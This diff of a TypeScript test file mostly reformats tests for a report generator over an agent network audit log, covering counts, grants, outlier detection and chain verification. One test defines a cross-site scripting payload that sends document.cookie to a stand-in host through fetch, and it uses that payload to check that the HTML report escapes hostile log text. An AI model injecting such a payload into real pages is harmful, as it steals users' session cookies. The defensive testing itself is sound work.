@@ -48,7 +48,10 @@ describe('report figures on the known log (test/helpers/known-audit-log.ts)', ()
   });
 
   it.each<[view: string, expected: Record<string, number>]>([
-    ['research', { requests: 7, allowed: 3, denied: 4, rateLimited: 1, bytesOut: 2010, grantsIssued: 1, grantsUsed: 1 }],
+    [
+      'research',
+      { requests: 7, allowed: 3, denied: 4, rateLimited: 1, bytesOut: 2010, grantsIssued: 1, grantsUsed: 1 },
+    ],
     ['builder', { requests: 3, allowed: 2, denied: 1, wouldDeny: 1, bytesOut: 350 }],
     ['anonymous', { requests: 2, allowed: 0, denied: 2, bytesOut: 0 }],
   ])('the %s view counts that agent only', (view, expected) => {
@@ -101,11 +104,30 @@ describe('report figures on the known log (test/helpers/known-audit-log.ts)', ()
 
   it('the grant (r13) and its use (r14), joined on source rule and host', () => {
     // The known log's grant records name no `grant` field: the edge still forms, its source unknown.
-    expect(data.all.grants).toEqual([{ sourceRule: '(unknown)', sourceHost: '(unknown)', host: 'cdn.example.net', issued: 1, skipped: 0, used: 1, bytesOut: 10, ttlMs: null }]);
+    expect(data.all.grants).toEqual([
+      {
+        sourceRule: '(unknown)',
+        sourceHost: '(unknown)',
+        host: 'cdn.example.net',
+        issued: 1,
+        skipped: 0,
+        used: 1,
+        bytesOut: 10,
+        ttlMs: null,
+      },
+    ]);
   });
 
   it('policy reloads and revisions for the timeline', () => {
-    expect(data.policyEvents).toEqual([{ time: '2026-11-22T00:30:00.000Z', reason: 'policy_loaded', revision: 'rev-b', previousRevision: 'rev-a', message: null }]);
+    expect(data.policyEvents).toEqual([
+      {
+        time: '2026-11-22T00:30:00.000Z',
+        reason: 'policy_loaded',
+        revision: 'rev-b',
+        previousRevision: 'rev-a',
+        message: null,
+      },
+    ]);
     expect(data.revisions).toEqual([
       { revision: 'rev-a', records: 5, firstSeen: '2026-11-22T00:00:00.000Z', lastSeen: '2026-11-22T00:20:00.000Z' },
       { revision: 'rev-b', records: 9, firstSeen: '2026-11-22T00:30:00.000Z', lastSeen: '2026-11-22T04:01:00.000Z' },
@@ -117,7 +139,8 @@ describe('report figures on the known log (test/helpers/known-audit-log.ts)', ()
     expect(series.bucketMs).toBe(30_000);
     expect(series.xs).toHaveLength(483);
     expect(series.xs[0]).toBe(BASE / 1000);
-    const sum = (key: 'allow' | 'deny' | 'limited') => Object.values(series.byAgent).reduce((n, s) => n + s[key].reduce((a, b) => a + b, 0), 0);
+    const sum = (key: 'allow' | 'deny' | 'limited') =>
+      Object.values(series.byAgent).reduce((n, s) => n + s[key].reduce((a, b) => a + b, 0), 0);
     expect([sum('allow'), sum('deny'), sum('limited')]).toEqual([5, 7, 1]);
     expect(series.byAgent.builder?.deny[(70 * 60) / 30]).toBe(1); // r08 at 01:10
   });
@@ -130,7 +153,12 @@ describe('the outlier rule: bytes out > median + 3·MAD, over at least 3 hosts',
     ['identical hosts and one more: MAD 0, anything above the median', [100, 100, 100, 5000], 100, [5000]],
     ['an even spread has no outlier', [100, 200, 300, 400, 500], 600, []],
     ['one large upload stands out', [100, 200, 300, 400, 5000], 600, [5000]],
-    ['a large upload cannot hide by raising the spread (mean + 3σ would miss it)', [1, 1, 1, 1, 1, 1, 1, 1, 1, 1000], 1, [1000]],
+    [
+      'a large upload cannot hide by raising the spread (mean + 3σ would miss it)',
+      [1, 1, 1, 1, 1, 1, 1, 1, 1, 1000],
+      1,
+      [1000],
+    ],
   ])('%s', (_name, bytes, threshold, outliers) => {
     const view = bytesOutView(bytes.map((b, i) => ({ host: `h${i}`, bytesOut: b, requests: 1 })));
     expect(view.threshold).toBe(threshold);
@@ -140,7 +168,15 @@ describe('the outlier rule: bytes out > median + 3·MAD, over at least 3 hosts',
 });
 
 describe('bounded memory', () => {
-  const rec = (ms: number, fields: object = {}) => ({ time: new Date(BASE + ms).toISOString(), event: 'request', agent: 'a', host: 'h.test', effect: 'allow', rule: 'r', ...fields });
+  const rec = (ms: number, fields: object = {}) => ({
+    time: new Date(BASE + ms).toISOString(),
+    event: 'request',
+    agent: 'a',
+    host: 'h.test',
+    effect: 'allow',
+    rule: 'r',
+    ...fields,
+  });
 
   it('time buckets widen along the ladder and never exceed MAX_BUCKETS, records in any order', () => {
     const month = 30 * 86_400_000;
@@ -162,7 +198,13 @@ describe('bounded memory', () => {
   });
 
   it('fields of the wrong type count as absent and never throw', () => {
-    const data = report([{ time: 'yesterday', agent: 5, host: {}, effect: 'allow', bytesOut: '100', rule: ['x'], grant: 'x' }, { event: 'grant', grant: null }, null as never].filter(Boolean));
+    const data = report(
+      [
+        { time: 'yesterday', agent: 5, host: {}, effect: 'allow', bytesOut: '100', rule: ['x'], grant: 'x' },
+        { event: 'grant', grant: null },
+        null as never,
+      ].filter(Boolean),
+    );
     expect(data.agents).toEqual(['(unknown)']);
     expect(data.all.totals).toMatchObject({ requests: 1, allowed: 1, bytesOut: 0, grantsIssued: 0 });
     expect(data.series.xs).toEqual([]);
@@ -172,12 +214,42 @@ describe('bounded memory', () => {
 
 describe('the chain result at the top of the page', () => {
   const at = { file: 'audit.log', line: 7 };
-  const result = (over: Partial<VerifyResult>): VerifyResult => ({ records: 10, chains: 1, chainStarts: [], startsAt: undefined, head: { seq: 10, hash: 'ab'.repeat(32), at }, finding: undefined, ...over });
+  const result = (over: Partial<VerifyResult>): VerifyResult => ({
+    records: 10,
+    chains: 1,
+    chainStarts: [],
+    startsAt: undefined,
+    head: { seq: 10, hash: 'ab'.repeat(32), at },
+    finding: undefined,
+    ...over,
+  });
   it.each<[name: string, r: VerifyResult, seq: number | null, state: string, message: RegExp]>([
     ['intact', result({}), null, 'verified', /^chain intact: 10 records, seq 1\.\.10$/],
-    ['rotated out at the start', result({ startsAt: 5 }), null, 'verified', /seq 5\.\.10; records before seq 5 are not in these files/],
-    ['broken link', result({ head: undefined, finding: { problem: 'broken_link', at, message: 'audit.log:7: broken link: …' } }), 7, 'broken', /^audit\.log:7: broken link/],
-    ['v1 records', result({ records: 0, head: undefined, finding: { problem: 'unchained', at, message: 'audit.log:1: record has no seq/prev' } }), null, 'not_chained', /^not chained: /],
+    [
+      'rotated out at the start',
+      result({ startsAt: 5 }),
+      null,
+      'verified',
+      /seq 5\.\.10; records before seq 5 are not in these files/,
+    ],
+    [
+      'broken link',
+      result({ head: undefined, finding: { problem: 'broken_link', at, message: 'audit.log:7: broken link: …' } }),
+      7,
+      'broken',
+      /^audit\.log:7: broken link/,
+    ],
+    [
+      'v1 records',
+      result({
+        records: 0,
+        head: undefined,
+        finding: { problem: 'unchained', at, message: 'audit.log:1: record has no seq/prev' },
+      }),
+      null,
+      'not_chained',
+      /^not chained: /,
+    ],
     ['empty', result({ records: 0, head: undefined }), null, 'empty', /^no records$/],
   ])('%s', (_name, r, seq, state, message) => {
     const status = chainStatus(r, seq);
@@ -189,8 +261,21 @@ describe('the chain result at the top of the page', () => {
 
 describe('the page is safe with hostile log text', () => {
   const hostile = '</script><script>fetch("http://x.test/"+document.cookie)</script><!--';
-  const data = report([{ time: new Date(BASE).toISOString(), event: 'request', agent: hostile, host: hostile, effect: 'deny', reason: 'no_rule' }]);
-  const html = renderReport(data, { generatedAt: 'now', inputs: [hostile], filters: [], policy: null, version: '0' }, { chartJs: 'window.uPlot = {};', chartCss: '' });
+  const data = report([
+    {
+      time: new Date(BASE).toISOString(),
+      event: 'request',
+      agent: hostile,
+      host: hostile,
+      effect: 'deny',
+      reason: 'no_rule',
+    },
+  ]);
+  const html = renderReport(
+    data,
+    { generatedAt: 'now', inputs: [hostile], filters: [], policy: null, version: '0' },
+    { chartJs: 'window.uPlot = {};', chartCss: '' },
+  );
 
   it('no byte of the data can end its script element or open a comment', () => {
     expect(scriptJson({ a: hostile, b: '\u2028&' })).not.toMatch(/[<>&\u2028]/);
@@ -200,10 +285,18 @@ describe('the page is safe with hostile log text', () => {
   });
 
   it('a Content-Security-Policy that allows no network access at all', () => {
-    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'`);
+    expect(html).toContain(
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'`,
+    );
   });
 
   it('refuses to inline a vendored file that would end its element', () => {
-    expect(() => renderReport(data, { generatedAt: 'now', inputs: [], filters: [], policy: null, version: '0' }, { chartJs: 'x="</script>"', chartCss: '' })).toThrow(/<\/script/);
+    expect(() =>
+      renderReport(
+        data,
+        { generatedAt: 'now', inputs: [], filters: [], policy: null, version: '0' },
+        { chartJs: 'x="</script>"', chartCss: '' },
+      ),
+    ).toThrow(/<\/script/);
   });
 });
